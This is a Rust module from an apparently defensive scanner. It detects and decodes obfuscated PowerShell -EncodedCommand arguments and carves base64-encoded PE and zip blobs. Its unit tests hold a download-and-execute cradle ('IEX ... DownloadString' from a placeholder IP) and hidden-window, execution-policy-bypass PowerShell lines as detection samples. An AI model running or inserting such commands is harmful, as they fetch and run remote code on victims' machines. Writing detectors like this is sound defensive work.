//! Base64 payloads: PowerShell `-EncodedCommand` arguments (base64 of
//! UTF-16LE text) and base64 blobs that decode to a PE or a zip.

use base64::Engine;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use crate::MAX_PAYLOAD_BYTES;
use crate::decode::utf16le;

/// Standard alphabet, padding optional, trailing bits tolerated: what
/// `[Convert]::FromBase64String` and powershell.exe accept in practice.
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Shortest base64 run considered for a PE or zip.
const MIN_BLOB_CHARS: usize = 64;
/// Base64 runs examined per input (most are not payloads).
const MAX_BLOB_CANDIDATES: usize = 256;

/// Dash lookalikes powershell.exe accepts as a switch prefix (en dash, em
/// dash, horizontal bar), UTF-8 encoded.
const DASHES: [&[u8]; 3] = [b"\xE2\x80\x93", b"\xE2\x80\x94", b"\xE2\x80\x95"];
/// The switch whose unambiguous prefixes (and the alias `ec`) take an
/// encoded command.
const ENCODED_COMMAND: &str = "encodedcommand";
/// Shortest argument taken for an encoded command.
const MIN_COMMAND_CHARS: usize = 8;

/// Bytes of the standard base64 alphabet (without `=`).
const BASE64_BYTE: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        let value = byte as u8;
        table[byte] = value.is_ascii_alphanumeric() || value == b'+' || value == b'/';
        byte += 1;
    }
    table
};

fn is_base64_byte(byte: u8) -> bool {
    BASE64_BYTE[usize::from(byte)]
}

/// Runs of base64 characters (plus up to two `=`) of at least `min`
/// characters, as byte ranges, in order. One pass, no regex.
pub(crate) fn base64_runs(bytes: &[u8], min: usize) -> Vec<(usize, usize)> {
    let mut runs = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        while at < bytes.len() && !is_base64_byte(bytes[at]) {
            at += 1;
        }
        let start = at;
        while at < bytes.len() && is_base64_byte(bytes[at]) {
            at += 1;
        }
        let core = at - start;
        let mut end = at;
        while end < bytes.len() && end - at < 2 && bytes[end] == b'=' {
            end += 1;
        }
        at = end;
        if core >= min {
            runs.push((start, end));
        }
    }
    runs
}

/// The arguments of `-e`, `-ec`, `-en` … `-EncodedCommand` switches
/// (prefixed by `-`, `/` or a dash lookalike) in `text`.
fn encoded_command_arguments(text: &str) -> Vec<&str> {
    let bytes = text.as_bytes();
    let mut arguments = Vec::new();
    let mut at = 0;
    while let Some(found) = memchr::memchr3(b'-', b'/', 0xE2, &bytes[at..]) {
        let start = at + found;
        at = start + 1;
        let switch_len = match bytes[start] {
            0xE2 if DASHES.iter().any(|dash| bytes[start..].starts_with(dash)) => 3,
            0xE2 => continue,
            _ => 1,
        };
        let after_boundary =
            start == 0 || matches!(bytes[start - 1], b' ' | b'\t' | b'\r' | b'\n' | b'"' | b'\'' | b'(');
        if !after_boundary {
            continue;
        }
        let word_start = start + switch_len;
        let word_end = word_start
            + bytes[word_start..]
                .iter()
                .take_while(|byte| byte.is_ascii_alphabetic())
                .count();
        let word = &text[word_start..word_end];
        let is_switch = !word.is_empty()
            && (ENCODED_COMMAND
                .get(..word.len())
                .is_some_and(|prefix| prefix.eq_ignore_ascii_case(word))
                || word.eq_ignore_ascii_case("ec"));
        let spaces = bytes[word_end..]
            .iter()
            .take_while(|byte| byte.is_ascii_whitespace())
            .count();
        if !is_switch || spaces == 0 {
            continue;
        }
        let mut argument = word_end + spaces;
        if matches!(bytes.get(argument), Some(b'"' | b'\'')) {
            argument += 1;
        }
        let len = bytes[argument..]
            .iter()
            .take_while(|&&byte| is_base64_byte(byte) || byte == b'=')
            .count();
        if len >= MIN_COMMAND_CHARS {
            arguments.push(&text[argument..argument + len]);
            at = argument + len;
        }
    }
    arguments
}

fn decode_base64_capped(run: &str, max_output: usize) -> Option<Vec<u8>> {
    let max_chars = max_output.saturating_mul(4) / 3;
    let mut run = run.trim_end_matches('=');
    if run.len() > max_chars {
        run = &run[..max_chars - max_chars % 4];
    }
    if run.len() % 4 == 1 {
        run = &run[..run.len() - 1];
    }
    LENIENT.decode(run).ok()
}

/// Decodes a PowerShell `-EncodedCommand` argument (base64 of UTF-16LE) to
/// text. Returns `None` when it is not base64 or does not decode to
/// plausible text.
pub fn decode_powershell_encoded(arg: &str) -> Option<String> {
    let trimmed = arg.trim().trim_matches(|c| matches!(c, '"' | '\'' | '`'));
    let end = trimmed
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
        .unwrap_or(trimmed.len());
    let run = &trimmed[..end];
    if run.len() < 4 {
        return None;
    }
    let bytes = decode_base64_capped(run, MAX_PAYLOAD_BYTES)?;
    if bytes.len() < 2 {
        return None;
    }
    let text = utf16le(&bytes);
    let total = text.chars().count();
    let bad = text
        .chars()
        .filter(|&c| c == '\u{FFFD}' || (c.is_control() && !c.is_whitespace()))
        .count();
    // Commands are mostly ASCII; UTF-8 or binary read as UTF-16LE is not.
    let ascii = text.chars().filter(char::is_ascii).count();
    let plausible =
        total > 0 && bad * 20 <= total && ascii * 2 >= total && text.chars().any(|c| c.is_ascii_alphabetic());
    plausible.then_some(text)
}

/// One `-EncodedCommand` found in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct EncodedCommand {
    /// The start of the base64 argument, for evidence.
    pub(crate) argument: String,
    /// The decoded command.
    pub(crate) text: String,
}

/// Every decodable `-EncodedCommand` argument in `text`.
pub(crate) fn find_encoded_commands(text: &str) -> Vec<EncodedCommand> {
    let mut found: Vec<EncodedCommand> = Vec::new();
    for argument in encoded_command_arguments(text) {
        let Some(decoded) = decode_powershell_encoded(argument) else {
            continue;
        };
        if found.iter().any(|known| known.text == decoded) {
            continue;
        }
        let argument: String = argument.chars().take(40).collect();
        found.push(EncodedCommand {
            argument,
            text: decoded,
        });
    }
    found
}

/// What a base64 blob decoded to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum BlobKind {
    /// A PE (`MZ`).
    Pe,
    /// A zip (`PK\x03\x04`).
    Zip,
}

/// The base64 runs of `text` long enough to be a blob; compute once and
/// hand to [`carve_blobs`] and the obfuscation measures.
pub(crate) fn blob_runs(text: &str) -> Vec<(usize, usize)> {
    base64_runs(text.as_bytes(), MIN_BLOB_CHARS)
}

/// Base64 `runs` of `text` (from [`blob_runs`]) that decode to a PE or a
/// zip, each at most `max_output` bytes.
pub(crate) fn carve_blobs(text: &str, runs: &[(usize, usize)], max_output: usize) -> Vec<(BlobKind, Vec<u8>)> {
    let mut found = Vec::new();
    let bytes = text.as_bytes();
    let candidates = runs.iter().copied().filter(|&(start, _)| {
        let run = &bytes[start..];
        run.starts_with(b"TV") || run.starts_with(b"UEsDB")
    });
    for (start, end) in candidates.take(MAX_BLOB_CANDIDATES) {
        let run = &bytes[start..end];
        let kind = if run.starts_with(b"TV") {
            BlobKind::Pe
        } else if run.starts_with(b"UEsDB") {
            BlobKind::Zip
        } else {
            continue;
        };
        let Some(bytes) = std::str::from_utf8(run)
            .ok()
            .and_then(|run| decode_base64_capped(run, max_output))
        else {
            continue;
        };
        let valid = match kind {
            BlobKind::Pe => bytes.starts_with(b"MZ") && bytes.len() >= 64,
            BlobKind::Zip => bytes.starts_with(b"PK\x03\x04"),
        };
        if valid {
            found.push((kind, bytes));
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    pub(crate) fn encode_command(text: &str) -> String {
        let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(utf16)
    }

    #[test]
    fn decodes_encoded_commands() {
        let command = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
        let encoded = encode_command(command);
        assert_eq!(decode_powershell_encoded(&encoded).as_deref(), Some(command));
        assert_eq!(
            decode_powershell_encoded(&format!("\"{encoded}\"")).as_deref(),
            Some(command)
        );
        assert_eq!(
            decode_powershell_encoded(encoded.trim_end_matches('=')).as_deref(),
            Some(command)
        );
        assert_eq!(decode_powershell_encoded("bypass"), None);
        assert_eq!(
            decode_powershell_encoded("aGVsbG8gd29ybGQ="),
            None,
            "UTF-8 base64 is not a PowerShell command"
        );
        let line = format!("powershell.exe -nop -w hidden –EncodedCommand {encoded} && powershell -e {encoded}");
        let found = find_encoded_commands(&line);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].text, command);
        assert!(find_encoded_commands("powershell -ep bypass -exec bypass").is_empty());
    }

    #[test]
    fn carves_pe_and_zip() {
        let mut pe = b"MZ\x90\x00".to_vec();
        pe.resize(200, 0);
        let zip = b"PK\x03\x04\x14\x00\x00\x00 some zip bytes follow here, and more, and more, and more".to_vec();
        let standard = base64::engine::general_purpose::STANDARD;
        let text = format!(
            "a = \"{}\"\nb = \"{}\"\nc = \"{}\"",
            standard.encode(&pe),
            standard.encode(&zip),
            "QUJD".repeat(40)
        );
        let runs = blob_runs(&text);
        assert_eq!(runs.len(), 3);
        let found = carve_blobs(&text, &runs, MAX_PAYLOAD_BYTES);
        assert_eq!(found.len(), 2);
        assert_eq!(found[0], (BlobKind::Pe, pe));
        assert_eq!(found[1].0, BlobKind::Zip);
        assert!(carve_blobs(&text, &runs, 10).iter().all(|(_, bytes)| bytes.len() <= 12));
    }
}
